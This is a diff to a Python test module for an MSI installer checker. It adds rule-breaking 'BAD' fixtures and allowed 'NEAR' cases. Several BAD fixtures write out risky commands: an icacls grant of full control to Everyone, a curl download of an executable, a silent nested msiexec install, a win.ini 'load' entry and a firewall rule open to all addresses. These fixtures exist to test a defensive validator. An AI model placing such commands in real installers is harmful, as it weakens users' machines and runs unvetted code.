@@ -52,6 +52,28 @@ COLUMNS: Mapping[str, tuple[str, ...]] = {
     "LockPermissions": ("LockObject", "Table", "Domain", "User", "Permission"),
     "MsiLockPermissionsEx": ("MsiLockPermissionsEx", "LockObject", "Table", "SDDLText", "Condition"),
     "LaunchCondition": ("Condition", "Description"),
+    "MoveFile": (
+        "FileKey",
+        "Component_",
+        "SourceName",
+        "DestName",
+        "SourceFolder",
+        "DestFolder",
+        "Options",
+    ),
+    "IniFile": ("IniFile", "FileName", "DirProperty", "Section", "Key", "Value", "Action", "Component_"),
+    "SecureObjects": ("SecureObject", "Table", "Domain", "User", "Permission", "Component_"),
+    "Wix4FirewallException": (
+        "Wix4FirewallException",
+        "Name",
+        "RemoteAddresses",
+        "Port",
+        "Protocol",
+        "Program",
+        "Attributes",
+        "Profile",
+        "Component_",
+    ),
 }
 CODE, SAME_CODE = "{08C12004-A10F-4BB9-BE10-0572E3C58A91}", "of the same package code"
 OWN = "{6F0C2D0E-4A34-4C55-9D8B-2B5B8E1F7A10}"
@@ -146,6 +168,37 @@ BAD: dict[str, Edit] = {
     "msi.system.conditions-never-asked": without("InstallExecuteSequence", "LaunchConditions"),
     "msi.system.overwrites-newer": added("Property", Property="REINSTALLMODE", Value="amus"),
     "msi.system.for-one-user": changed("Property", "ALLUSERS", Value="2"),
+    "msi.components.bitness": changed("Component", "Notice", Attributes="0"),
+    "msi.components.file-twice": added(
+        "File", File="Again", Component_="Settings", FileName="NOTICE.txt", FileSize="1", Sequence="1"
+    ),
+    "msi.services.reboots-when-it-fails": changed(
+        "MsiServiceConfigFailureActions", "*", Actions="1[~]1[~]2"
+    ),
+    "msi.actions.weakens-the-machine": action(
+        "Open", 34 + 3072, "TARGETDIR", "[System64Folder]icacls.exe [INSTALLDIR] /grant Everyone:(OI)(CI)F"
+    ),
+    "msi.actions.fetches-a-program": action(
+        "Fetch", 34 + 3072, "TARGETDIR", "curl.exe -o [INSTALLDIR]more.exe http://example.org/more.exe"
+    ),
+    "msi.actions.nested-installation": action("Nest", 34 + 3072, "TARGETDIR", "msiexec.exe /i more.msi /qn"),
+    "msi.actions.not-awaited": action("Alone", 34 + 3072 + 192, "TARGETDIR", "[INSTALLDIR]refagent.exe"),
+    "msi.properties.user-control": added("Property", Property="EnableUserControl", Value="1"),
+    "msi.system.moves-shared-files": added(
+        "MoveFile",
+        FileKey="M",
+        Component_="Notice",
+        SourceName="*.log",
+        DestFolder="INSTALLDIR",
+        SourceFolder="WindowsFolder",
+        Options="1",
+    ),
+    "msi.system.changes-system-ini": added(
+        "IniFile", IniFile="I", FileName="win.ini", DirProperty="WindowsFolder", Section="windows", Key="load"
+    ),
+    "msi.system.opens-the-firewall": added(
+        "Wix4FirewallException", Wix4FirewallException="F", Name="Agent", RemoteAddresses="*", Profile="2147483647"
+    ),
 }
 """An edit of the reference agent's good MSI that breaks one rule."""
 
@@ -224,6 +277,38 @@ NEAR: dict[str, Edit] = {
     "stopped and deleted by two rows": both(
         changed("ServiceControl", "*", Event="35"),
         added("ServiceControl", ServiceControl="More", Name="BvtRefAgent", Event="160", Component_="Service"),
+    ),
+    "a 64-bit component of values alone, and one of 32 bits where 32-bit programs are": both(
+        added("Directory", Directory="ProgramFilesFolder", Directory_Parent="TARGETDIR", DefaultDir="."),
+        changed("Component", "Notice", Attributes="0", Directory_="ProgramFilesFolder"),
+    ),
+    "one file in two folders": both(
+        added("Directory", Directory="More", Directory_Parent="INSTALLDIR", DefaultDir="more"),
+        changed("Component", "Settings", Directory_="More"),
+        added("File", File="Again", Component_="Settings", FileName="NOTICE.txt", FileSize="1", Sequence="1"),
+    ),
+    "a rule of the firewall for its own port": added(
+        "Wix4FirewallException", Wix4FirewallException="F", Name="Agent", RemoteAddresses="*", Port="8443"
+    ),
+    "a program of its own that is started for the user and not awaited": action(
+        "Tray", 34 + 192, "INSTALLDIR", "[INSTALLDIR]tray.exe"
+    ),
+    "a command that closes its folder": action(
+        "Close", 34 + 3072, "TARGETDIR", "icacls.exe [INSTALLDIR] /inheritance:r /grant *S-1-5-18:(OI)(CI)F"
+    ),
+    "files of its own moved": added(
+        "MoveFile", FileKey="M", SourceName="*.old", SourceFolder="INSTALLDIR", DestFolder="INSTALLDIR", Options="1"
+    ),
+    "a file of its own settings": added(
+        "IniFile", IniFile="I", FileName="agent.ini", DirProperty="INSTALLDIR", Section="agent", Key="port"
+    ),
+    "a setting whose name speaks of secrets and whose value is none": both(
+        added("Property", Property="TOKEN_URL", Value="https://example.org/token2"),
+        added("Property", Property="SECRETSTORE", Value="[CommonAppDataFolder]BVT1"),
+        changed("Property", "MsiHiddenProperties", Value="ENROLSECRET;OLDENROLSECRET;TOKEN_URL;SECRETSTORE"),
+    ),
+    "administrators write by a builder's table": added(
+        "SecureObjects", SecureObject="S", Table="CreateFolder", User="Administrators", Permission="268435456"
     ),
     "read for users": added(
         "MsiLockPermissionsEx",
